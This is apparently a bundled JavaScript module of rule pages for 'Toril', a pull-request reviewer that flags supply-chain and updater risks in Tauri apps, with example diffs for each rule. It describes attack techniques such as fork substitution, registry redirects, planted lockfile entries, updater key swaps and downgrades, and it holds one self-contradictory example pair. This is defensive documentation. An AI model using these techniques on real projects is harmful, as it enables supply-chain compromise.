
## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags a crate that moves alone

\`src-tauri/Cargo.lock\`:

\`\`\`diff
 [[package]]
 name = "tauri-plugin-fs"
-version = "2.3.0"
+version = "2.4.0"
 source = "registry+https://github.com/rust-lang/crates.io-index"
-checksum = "f6a2c88449518b681d10298dd45d273bf070c175140d1761739faad52a64f5b3"
+checksum = "0a2c88449518b681d10298dd45d273bf070c175140d1761739faad52a64f5b3b"
\`\`\`

\`tauri-plugin-fs 2.4.0\` and \`@tauri-apps/plugin-fs 2.3.0\` newly differ in more than the patch:

\`\`\`
tauri build  # stops: tauri-plugin-fs 2.4.0 and @tauri-apps/plugin-fs 2.3.0 differ
\`\`\`

### It says nothing when both halves move together

\`package-lock.json\`:

\`\`\`diff
     },
     "node_modules/@tauri-apps/plugin-fs": {
-      "version": "2.3.0",
-      "integrity": "sha512-XhjRYUyT6ML06ZYxqvqzx69jHuA0sEXfhBFUIa7vPf5KL87jb1CSElAWbWxDPnVkNqPqD9RtXmr9TCRKZ1xJew==",
+      "version": "2.4.2",
+      "integrity": "sha512-eKjcC2F3U8TI93F0nPdv4RUl5ztYBo3iPjU1dT1vBeN4eaLhHHDQRtJAcu7mnBv8TCFRhgnh4fSl3EDihzkndg==",
       "license": "MIT OR Apache-2.0",
       "dependencies": {
\`\`\`

\`src-tauri/Cargo.lock\`:

\`\`\`diff
 [[package]]
 name = "tauri-plugin-fs"
-version = "2.3.0"
+version = "2.4.0"
 source = "registry+https://github.com/rust-lang/crates.io-index"
-checksum = "f6a2c88449518b681d10298dd45d273bf070c175140d1761739faad52a64f5b3"
+checksum = "0a2c88449518b681d10298dd45d273bf070c175140d1761739faad52a64f5b3b"
\`\`\`

<!-- end examples -->

## References

- [tauri-cli: what is compared](https://github.com/tauri-apps/tauri/blob/dev/crates/tauri-cli/src/info/plugins.rs)
- [Tauri: the pull request that compares versions](https://github.com/tauri-apps/tauri/pull/13993)
- [Tauri 2: updating dependencies](https://v2.tauri.app/develop/updating-dependencies/)
`,"packages/source-changed":`# A package comes from somebody else: \`packages/source-changed\`

Severity: high; medium for repositories of Tauri's own organisation; low where it moves to the ecosystem's registry.

Since: 0.1.0

A package that base has is taken from another registry, repository or host; or a new package comes from one that the app took nothing from before.

## Why it matters

The lockfile pins today's bytes, but whoever owns the source decides about every next version, and nobody but them reviewed this one. A fork keeps the name and \
the version of the package that it replaces, so nothing in a build tells the two apart. That holds even where today's hash is still the same: the next version i\
s the new owner's. Package names that exist in two places are also how private packages are replaced by public ones.

## What to do

Open the new address. Check who owns it, and compare its code with the source that it replaces. A fork that you need should belong to you.

## When it says nothing

- Another commit, branch or tag of the same repository, which has the same owner.
- A package moves into this repository: its code is then part of the pull request.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags a crate that moves to a fork

\`src-tauri/Cargo.lock\`:

\`\`\`diff
 name = "notify-rust"
 version = "4.11.5"
-source = "registry+https://github.com/rust-lang/crates.io-index"
-checksum = "7150cc6dd20ffec056fc6b50a33a3ae641b316c87ab9e95d07d5072d006ea503"
+source = "git+https://github.com/somebody/notify-rust?branch=main#3391b5815df6adabd4d4c0aee7a5d6b7c8e9f001"

 [[package]]
\`\`\`

\`notify-rust 4.11.5\` newly comes from \`https://github.com/somebody/notify-rust\`:

\`\`\`
cargo fetch  # takes notify-rust 4.11.5 from https://github.com/somebody/notify-rust?branch=main#3391b5815df6adabd4d4c0aee7a5d6b7c8e9f001
\`\`\`

### It says nothing when the same branch moves on

\`src-tauri/Cargo.lock\`:

\`\`\`diff
 [[package]]
 name = "notify-rust"
-version = "4.11.5"
-source = "git+https://github.com/somebody/notify-rust?branch=main#3391b5815df6adabd4d4c0aee7a5d6b7c8e9f001"
+version = "4.11.6"
+source = "git+https://github.com/somebody/notify-rust?branch=main#4402b5815df6adabd4d4c0aee7a5d6b7c8e9f001"

 [[package]]
\`\`\`

<!-- end examples -->

## References

- [Cargo: specifying dependencies](https://doc.rust-lang.org/cargo/reference/specifying-dependencies.html)
- [Cargo: source replacement](https://doc.rust-lang.org/cargo/reference/source-replacement.html)
- [npm: package-lock.json](https://docs.npmjs.com/cli/v11/configuring-npm/package-lock-json)
- [SLSA: threats to a supply chain](https://slsa.dev/spec/v1.0/threats)
`,"packages/source-replaced":`# A setting takes packages from somewhere else: \`packages/source-replaced\`

Severity: high; medium for a patch of a package, for a crate that this repository holds, and for a fork of someone whose code the app takes already.

Since: 0.1.0

A setting says who answers when packages are asked for: another registry, a proxy, another package or repository in place of one. Or it patches a package after \
it was fetched.

## Why it matters

"The registry" is what the configuration says it is. A line \`registry=\` in \`.npmrc\` moves every package of the app to another server, and the lockfile may look \
as before. An entry in \`overrides\` or \`resolutions\` that names another package, a repository or an address puts somebody else's code under a trusted name, every\
where in the tree.

Cargo has the same. \`[source]\` with \`replace-with\` takes all crates from a mirror or a folder, \`[patch]\` and \`[replace]\` take one crate from a repository, a reg\
istry or a folder, and \`paths\` takes a folder for a crate without a word in Cargo.lock. Hashes don't always help: cargo believes what a vendored folder says of \
its own hash, and checks nothing of \`paths\`, not even with \`--locked\`.

## What to do

Check who answers there. Prefer one registry, name scopes for private ones, and keep hashes in the lockfile: they pin the bytes, whoever serves them.

## When it says nothing

- npm's own registry is written out.
- \`overrides\` ask for another version of the same package: the lockfile shows which.
- The same setting moves to another file, or a patch to another table.
- A patch asks for another branch or commit of the same repository: Cargo.lock shows which.
- Cargo.lock follows a new patch: that the crate comes from elsewhere is told once, at the line of the patch.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags another registry

\`.npmrc\`:

\`\`\`diff
 fund=false
+registry=https://packages.example.com/npm/
\`\`\`

Packages are newly taken from somewhere else, by \`registry=https://packages.example.com/npm/\`:

\`\`\`
npm ci  # takes packages as registry=https://packages.example.com/npm/ says
\`\`\`

### It says nothing when the registry is written out

\`.npmrc\`:

\`\`\`diff
 fund=false
+registry=https://registry.npmjs.org/
\`\`\`

<!-- end examples -->

## References

- [npm: registry](https://docs.npmjs.com/cli/v11/using-npm/registry)
- [npm: overrides](https://docs.npmjs.com/cli/v11/configuring-npm/package-json#overrides)
- [pnpm: settings](https://pnpm.io/settings)
- [cargo: source replacement](https://doc.rust-lang.org/cargo/reference/source-replacement.html)
- [cargo: overriding dependencies](https://doc.rust-lang.org/cargo/reference/overriding-dependencies.html)
`,"packages/unpinned":`# A package that no lockfile pins: \`packages/unpinned\`

Severity: medium.

Since: 0.1.0

A Cargo.toml or package.json newly asks for a package, and the lockfile beside it doesn't hold one that will do, or there is no lockfile.

## Why it matters

A lockfile makes every build take the bytes that were reviewed. What it doesn't hold is resolved anew by \`cargo build\` and \`npm install\`, on every machine and e\
very day: the newest release that fits. Whoever publishes that release, or takes over the account that may, puts code into the app without any change to the rep\
ository. Attacks on popular packages are mostly found within hours, and hit those who build without a pin.

## What to do

Let cargo or your package manager write the lockfile, and commit it with the manifest. Build with \`cargo build --locked\` and install with \`npm ci\`, which stop w\
here the two disagree.

## When it says nothing

- The lockfile holds a release that fits, whoever else asks for it.
- The requirement stood there before and was as unpinned.
- Folders of this repository: their code is part of the pull request.
- An app that is new and has no lockfile at all.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags a crate that the manifest asks for and the lockfile lacks

\`src-tauri/Cargo.toml\`:

\`\`\`diff
 [dependencies]
 tauri = "2"
+notify-rust = "4"
\`\`\`

1 crate is newly asked for, and no lockfile pins it: \`notify-rust 4\`:

\`\`\`
cargo build  # takes what fits notify-rust 4 that day
\`\`\`

### It says nothing when the lockfile holds what is asked for

\`src-tauri/Cargo.toml\`:

\`\`\`diff

 [dependencies]
-tauri = "2"
+tauri = "2.8"
\`\`\`

<!-- end examples -->

## References

- [Cargo: Cargo.toml and Cargo.lock](https://doc.rust-lang.org/cargo/guide/cargo-toml-vs-cargo-lock.html)
- [npm: package-lock.json](https://docs.npmjs.com/cli/v11/configuring-npm/package-lock-json)
`,"packages/unreached":`# A locked package that nothing asks for: \`packages/unreached\`

Severity: medium.

Since: 0.1.0

A lockfile newly holds an entry to which no dependency leads: neither from the app, nor from other projects of the repository, nor from another package.

## Why it matters

Package managers prune such entries, so somebody wrote it by hand, or merged it in. \`npm ci\` installs what the lockfile says, with its scripts; plain \`cargo bui\
ld\` takes it out again without a word, so that the next diff hides where it went. Entries that nothing needs are how a prepared package waits for the line that \
uses it.

## What to do

Take the entry out, or let the package manager write the lockfile anew: if it stays, something needs it after all.

## When it says nothing

- A package that a dependency leads to, however far away.
- The entry stood there before.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags an entry that nothing needs

\`package-lock.json\`:

\`\`\`diff
   "lockfileVersion": 3,
   "packages": {
+    "node_modules/prepared": { "version": "1.0.0", "integrity": "sha512-ZZQ3w0TLm4hrBGbFYY8TEMl3nX0PhCNhMkGLMNPeiDl6fJTUUeR4mvBVvM9hRmZgj8f3fYV4y0b0jTcwS0i0dQ=\
=" },
     "": { "name": "notes", "version": "1.0.0", "dependencies": { "left": "^1.0.0" } },
     "node_modules/left": {
\`\`\`

\`prepared 1.0.0\` is newly locked, and nothing asks for it:

\`\`\`
npm ci  # takes prepared 1.0.0
\`\`\`

### It says nothing of a package that is asked for

\`package-lock.json\`:

\`\`\`diff
   "lockfileVersion": 3,
   "packages": {
-    "": { "name": "notes", "version": "1.0.0", "dependencies": { "left": "^1.0.0" } },
+    "": { "name": "notes", "version": "1.0.0", "dependencies": { "left": "^1.0.0", "prepared": "^1.0.0" } },
+    "node_modules/prepared": { "version": "1.0.0", "integrity": "sha512-ZZQ3w0TLm4hrBGbFYY8TEMl3nX0PhCNhMkGLMNPeiDl6fJTUUeR4mvBVvM9hRmZgj8f3fYV4y0b0jTcwS0i0dQ=\
=" },
     "node_modules/left": {
       "version": "1.0.0",
\`\`\`

\`package.json\`:

\`\`\`diff
   "name": "notes",
   "version": "1.0.0",
-  "dependencies": { "left": "^1.0.0" }
+  "dependencies": { "left": "^1.0.0", "prepared": "^1.0.0" }
 }
\`\`\`

<!-- end examples -->

## References

- [npm: package-lock.json](https://docs.npmjs.com/cli/v11/configuring-npm/package-lock-json)
- [Cargo: Cargo.toml and Cargo.lock](https://doc.rust-lang.org/cargo/guide/cargo-toml-vs-cargo-lock.html)
`,"packages/version-withdrawn":`# A release that its registry has taken back: \`packages/version-withdrawn\`

Severity: high; medium for a release that is only yanked.

Since: 0.1.0

Cargo.lock newly pins a release that the index of crates.io doesn't list any more, or lists as yanked.

## Why it matters

crates.io keeps each release for ever; what it takes out of its index was found to be harmful, or belongs to somebody else. A build that finds the archive in a \
cache or at a mirror runs it all the same. Yanked releases are there for lockfiles that have them already: cargo doesn't choose one by itself, so somebody wrote\
 it into the lockfile.

## What to do

Take a release that is listed. For one that was withdrawn, look for an advisory, and look at what it ran on machines that have built it.

## When it says nothing

- Base pins the same release.
- The crate comes from git or from another registry, the run is offline, or the index doesn't answer. What isn't known of its archive is a gap then.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags a release that is yanked

\`src-tauri/Cargo.lock\`:

\`\`\`diff
 [[package]]
 name = "bytes"
-version = "1.10.0"
+version = "1.10.9"
 source = "registry+https://github.com/rust-lang/crates.io-index"
-checksum = "0000000000000000000000000000000000000000000000000000000000000000"
+checksum = "1111111111111111111111111111111111111111111111111111111111111111"

 [[package]]
\`\`\`

The lockfile newly pins \`bytes 1.10.9\`, which its publisher has yanked:

\`\`\`
cargo fetch  # takes bytes 1.10.9
\`\`\`

### It says nothing of a release that is listed

\`src-tauri/Cargo.lock\`:

\`\`\`diff
 [[package]]
 name = "bytes"
-version = "1.10.0"
+version = "1.10.9"
 source = "registry+https://github.com/rust-lang/crates.io-index"
-checksum = "0000000000000000000000000000000000000000000000000000000000000000"
+checksum = "1111111111111111111111111111111111111111111111111111111111111111"

 [[package]]
\`\`\`

<!-- end examples -->

## References

- [Cargo: \`cargo yank\`](https://doc.rust-lang.org/cargo/commands/cargo-yank.html)
- [Cargo: the index of a registry](https://doc.rust-lang.org/cargo/reference/registry-index.html)
- [RUSTSEC-2022-0042: the malicious crate \`rustdecimal\`](https://rustsec.org/advisories/RUSTSEC-2022-0042.html)
`,"policy/weakened":`# Toril's policy lets more pass: \`policy/weakened\`

Severity: high.

Since: 0.1.0

A change edits \`.github/toril.yml\`, or a workflow that runs Toril, so that something passes which fails by the policy of today: a threshold rises, a rule is tur\
ned off or weighs less, a gap no longer closes the gate, a source or a package is newly trusted, the organisation's policy is no longer asked for or lets reposi\
tories be looser, or the policy only observes. Of a workflow: it no longer runs Toril, or only for some events, branches, paths or on a condition; its failing n\
o longer counts; its command gets another shell, container or path to programs; its input \`fail-on\` gets laxer; or a tag, a branch or another owner newly decide\
s what it runs.

## Why it matters

The policy decides what any later change may do to the app. Who can weaken it in one pull request can bring the widening in the next one, and that passes. A pul\
l request is judged by the policy of the default branch, so the weaker one can't let itself in.

## What to do

Merge it only if those who decide on the app's security want it. Give \`/.github/toril.yml\` a line in \`CODEOWNERS\`, so that they are asked.

## When it says nothing

- The policy gets stricter, or means what it meant.
- A workflow takes another full commit of the same action, gets other steps, or moves. A job that is called otherwise lets nothing pass: a branch that requires \
it by its name then waits for it, and stays closed.
- \`comment-from\` alone changes: it decides where a finding is shown, and not whether it fails.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags a rule that is turned off

\`.github/toril.yml\`:

\`\`\`diff
 incomplete: fail
 rules:
-  csp/eval-allowed: high
+  csp/eval-allowed: off
\`\`\`

Toril newly lets a critical finding of \`csp/eval-allowed\` pass, by \`rules: csp/eval-allowed: off\`:

\`\`\`
a review that finds csp/eval-allowed at critical
\`\`\`

### It says nothing of a rule that weighs more

\`.github/toril.yml\`:

\`\`\`diff
 incomplete: fail
 rules:
-  csp/eval-allowed: high
+  csp/eval-allowed: critical
\`\`\`

<!-- end examples -->

## References

- [GitHub: about code owners](https://docs.github.com/en/repositories/managing-your-repositorys-settings-and-features/customizing-your-repository/about-code-own\
ers)
- [OpenSSF: Branch-Protection, code review](https://github.com/ossf/scorecard/blob/main/docs/checks.md#branch-protection)
`,"updates/installer-silenced":`# Updates are installed with less to see: \`updates/installer-silenced\`

Severity: medium for arguments; low for what people no longer see; low for an app that is new.

Since: 0.1.0

The updater of Windows has \`quiet\` or other \`installerArgs\`, or Tauri 1 no longer asks.

## Why it matters

Arguments go to the installer as they are: \`/D=\` sets its folder, \`TRANSFORMS=\` changes an MSI. What people don't see they can't stop.

## What to do

Leave the installer visible, and give it no arguments.

## When it says nothing

- The mode goes from \`quiet\` to \`passive\`.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags an argument

\`src-tauri/tauri.conf.json\`:

\`\`\`diff
     "updater": {
       "windows": {
-        "installMode": "passive"
+        "installMode": "passive",
+        "installerArgs": [
+          "/D=C:\\\\\\\\notes"
+        ]
       }
     }
\`\`\`

An update can newly be installed with \`/D=C:\\\\notes\` on Windows:

\`\`\`
notes-setup.exe /D=C:\\\\notes
\`\`\`

### It says nothing about a mode that shows more

\`src-tauri/tauri.conf.json\`:

\`\`\`diff
     "updater": {
       "windows": {
-        "installMode": "quiet"
+        "installMode": "passive"
       }
     }
\`\`\`

<!-- end examples -->

## References

- [Tauri 2: the updater](https://v2.tauri.app/plugin/updater/)
- [Tauri 1: the updater](https://v1.tauri.app/v1/guides/distribution/updater)
`,"updates/key-trusted":`# Another key signs the app's updates: \`updates/key-trusted\`

Severity: critical where another key was trusted before; high for the first one; medium for one that no updater reads yet; low for an app that is new.

Since: 0.1.0

\`plugins.updater.pubkey\` (in Tauri 1: \`tauri.updater.pubkey\`) holds a key that it did not, and the updater is built in. It is decoded as the updater does: the s\
econd line of what the base64 stands for is the key, whatever the first one says. Its number is the one that \`minisign\` shows.

A key that waited in the configuration is told where the updater arrives: at the line of \`Cargo.toml\`, or at \`active\` in Tauri 1.

## Why it matters

An update is any program that this key signed. Where it is downloaded from doesn't matter, so the key is what keeps others from replacing the app.

## What to do

A rotation is announced and rare. Compare the number with the one that the release machine shows.

## When it says nothing

- The same key with another comment.
- A key that the updater can't decode: it then refuses every update, which is said, and doesn't block.
- The app moves from Tauri 1 to 2 with its key.

Code that gives the updater a key, a server or a comparison of versions while the app runs isn't followed: where it is new, that is a gap that blocks.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags another key

\`src-tauri/tauri.conf.json\`:

\`\`\`diff
   "plugins": {
     "updater": {
-      "pubkey": "dW50cnVzdGVkIGNvbW1lbnQ6IG1pbmlzaWduIHB1YmxpYyBrZXk6IDlBMUM0NjMxREZCNDRGMjYKUldRbVQ3VGZNVVljbWdBQkFnTUVCUVlIQ0FrS0N3d05EZzhRRVJJVEZCVVdGeGdaR2\
hzY0hSNGYK",
+      "pubkey": "dW50cnVzdGVkIGNvbW1lbnQ6IG1pbmlzaWduIHB1YmxpYyBrZXk6IDAxMjM0NTY3ODlBQkNERUYKUldUdnphdUpaMFVqQVFBQkFnTUVCUVlIQ0FrS0N3d05EZzhRRVJJVEZCVVdGeGdaR2\
hzY0hSNGYK",
       "endpoints": [
         "https://updates.example.com/latest.json"
\`\`\`

Whoever holds the key \`0123456789ABCDEF\` can newly sign what the app installs as its update:

\`\`\`
minisign -Vm update.tar.gz -P RWTvzauJZ0UjAQABAgMEBQYHCAkKCwwNDg8QERITFBUWFxgZGhscHR4f
\`\`\`

### It says nothing of another comment

\`src-tauri/tauri.conf.json\`:

\`\`\`diff
   "plugins": {
     "updater": {
-      "pubkey": "dW50cnVzdGVkIGNvbW1lbnQ6IG1pbmlzaWduIHB1YmxpYyBrZXk6IDlBMUM0NjMxREZCNDRGMjYKUldRbVQ3VGZNVVljbWdBQkFnTUVCUVlIQ0FrS0N3d05EZzhRRVJJVEZCVVdGeGdaR2\
hzY0hSNGYK",
+      "pubkey": "dW50cnVzdGVkIGNvbW1lbnQ6IG1pbmlzaWduIHB1YmxpYyBrZXk6IHRoZSBrZXkgb2YgTm90ZXMKUldRbVQ3VGZNVVljbWdBQkFnTUVCUVlIQ0FrS0N3d05EZzhRRVJJVEZCVVdGeGdaR2\
hzY0hSNGYK",
       "endpoints": [
         "https://updates.example.com/latest.json"
\`\`\`

<!-- end examples -->

## References

- [Tauri 2: the updater](https://v2.tauri.app/plugin/updater/)
- [Minisign: what signs updates](https://jedisct1.github.io/minisign/)
- [Tauri 1: the updater](https://v1.tauri.app/v1/guides/distribution/updater)
`,"updates/rollback-allowed":`# An old release can be installed as an update: \`updates/rollback-allowed\`

Severity: high; low where only a page can ask for it and the server has to agree, and for an app that is new.

Since: 0.1.0

\`plugins.updater.requireSignedVersion\` was \`true\` and no longer is, \`allowDowngrades\` was turned on, or the updater went to a version (2.8 to 2.11) where pages \
decide it, or to one before 2.12 that knows neither.

The app's own code compares versions in the updater's place (medium, possible): what it takes for newer may be older.

## Why it matters

The updater installs what its key signed, whatever the version. Without a signed version the server says which version it is; with \`allowDowngrades\` it needn't \
even be newer (CVE-2026-95625).

## What to do

Sign releases with a CLI that records the version, then require it.

## When it says nothing

- The app has had no updater: that it goes without is its default, and the new key is reported by itself.
- \`false\` is written out, which is the default.
- The app moves from Tauri 1, which checks no signed version either.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags downgrades

\`src-tauri/tauri.conf.json\`:

\`\`\`diff
         "https://updates.example.com/latest.json"
       ],
-      "requireSignedVersion": true
+      "requireSignedVersion": true,
+      "allowDowngrades": true
     }
   }
\`\`\`

The updater can newly install a release older than the one that runs:

\`\`\`
{ "version": "99.0.0", "url": "https://example.com/app-1.0.0.tar.gz" }
\`\`\`

### It says nothing when the default is written out

\`src-tauri/tauri.conf.json\`:

\`\`\`diff
       "endpoints": [
         "https://updates.example.com/latest.json"
-      ]
+      ],
+      "requireSignedVersion": false,
+      "allowDowngrades": false
     }
   }
\`\`\`

<!-- end examples -->

## References

- [Tauri 2: the updater](https://v2.tauri.app/plugin/updater/)
- [The Update Framework: attacks on updates](https://theupdateframework.github.io/specification/latest/)
- [CVE-2026-95625: the updater installs old releases](https://www.cve.org/CVERecord?id=CVE-2026-95625)
`,"updates/source-added":`# Updates are announced from another place: \`updates/source-added\`

Severity: high for another host or plain HTTP; medium for another path of a host that was asked before; low for an app that is new.

Since: 0.1.0

\`plugins.updater.endpoints\` (in Tauri 1: \`tauri.updater.endpoints\`) has a URL that it had not.

The app's own code names other endpoints while it runs (medium, possible): which, only running it tells.

## Why it matters

The server says which version there is and where it is. The signature keeps it from shipping its own code, and not from holding a fix back.

## What to do

Ask who runs the host. A mirror that you don't run sees every installation and decides what it is offered.

## When it says nothing

- The endpoints change their order, or one of them goes.
- The app moves from Tauri 1 to 2 with its endpoints.
- Code that gives the updater endpoints while the app runs. Toril doesn't follow that.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags another host

\`src-tauri/tauri.conf.json\`:

\`\`\`diff
       "pubkey": "dW50cnVzdGVkIGNvbW1lbnQ6IG1pbmlzaWduIHB1YmxpYyBrZXk6IDlBMUM0NjMxREZCNDRGMjYKUldRbVQ3VGZNVVljbWdBQkFnTUVCUVlIQ0FrS0N3d05EZzhRRVJJVEZCVVdGeGdaR2\
hzY0hSNGYK",
       "endpoints": [
+        "https://mirror.example.net/{{target}}/latest.json",
         "https://updates.example.com/latest.json"
       ],
\`\`\`

A server at \`https://mirror.example.net/{{target}}/latest.json\` can newly tell the app which update to install:

\`\`\`
GET https://mirror.example.net/%7B%7Btarget%7D%7D/latest.json
\`\`\`

### It says nothing when endpoints change their order

\`src-tauri/tauri.conf.json\`:

\`\`\`diff
       "pubkey": "dW50cnVzdGVkIGNvbW1lbnQ6IG1pbmlzaWduIHB1YmxpYyBrZXk6IDlBMUM0NjMxREZCNDRGMjYKUldRbVQ3VGZNVVljbWdBQkFnTUVCUVlIQ0FrS0N3d05EZzhRRVJJVEZCVVdGeGdaR2\
hzY0hSNGYK",
       "endpoints": [
-        "https://updates.example.com/latest.json",
-        "https://b.example/{{arch}}"
+        "https://b.example/{{arch}}",
+        "https://updates.example.com/latest.json"
       ],
       "requireSignedVersion": true
\`\`\`

<!-- end examples -->

## References

- [Tauri 2: the updater](https://v2.tauri.app/plugin/updater/)
- [Tauri 1: the updater](https://v1.tauri.app/v1/guides/distribution/updater)
- [The Update Framework: attacks on updates](https://theupdateframework.github.io/specification/latest/)
`,"updates/transport-unchecked":`# The way to the update server is unchecked: \`updates/transport-unchecked\`

Severity: high; low for an app that is new.

Since: 0.1.0

\`dangerousInsecureTransportProtocol\`, \`dangerousAcceptInvalidCerts\` or \`dangerousAcceptInvalidHostnames\` of \`plugins.updater\` was turned on. The latter two coun\
t from version 2.10 of the updater on.

## Why it matters

The signature of an update is checked in any case. Which update is offered, and that one is offered at all, is only as sure as the connection.

## What to do

Use HTTPS with an ordinary certificate, also inside a company.

## When it says nothing

- \`false\` is written out, which is the default.
- The setting is on in an app without an updater.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags certificates of anyone

\`src-tauri/tauri.conf.json\`:

\`\`\`diff
         "https://updates.example.com/latest.json"
       ],
-      "requireSignedVersion": true
+      "requireSignedVersion": true,
+      "dangerousAcceptInvalidCerts": true,
+      "dangerousAcceptInvalidHostnames": true
     }
   }
\`\`\`

Anyone on the network path to the update server can newly answer the updater with any certificate:

\`\`\`
curl --insecure https://example.com/latest.json
\`\`\`

### It says nothing when the default is written out

\`src-tauri/tauri.conf.json\`:

\`\`\`diff
         "https://updates.example.com/latest.json"
       ],
-      "requireSignedVersion": true
+      "requireSignedVersion": true,
+      "dangerousAcceptInvalidCerts": false
     }
   }
\`\`\`

<!-- end examples -->

## References

- [Tauri 2: the updater](https://v2.tauri.app/plugin/updater/)
- [CWE-295: improper certificate validation](https://cwe.mitre.org/data/definitions/295.html)
- [CWE-319: transmission in cleartext](https://cwe.mitre.org/data/definitions/319.html)
`};function rulePage(id){return pages[id]}0&&(module.exports={rulePage});
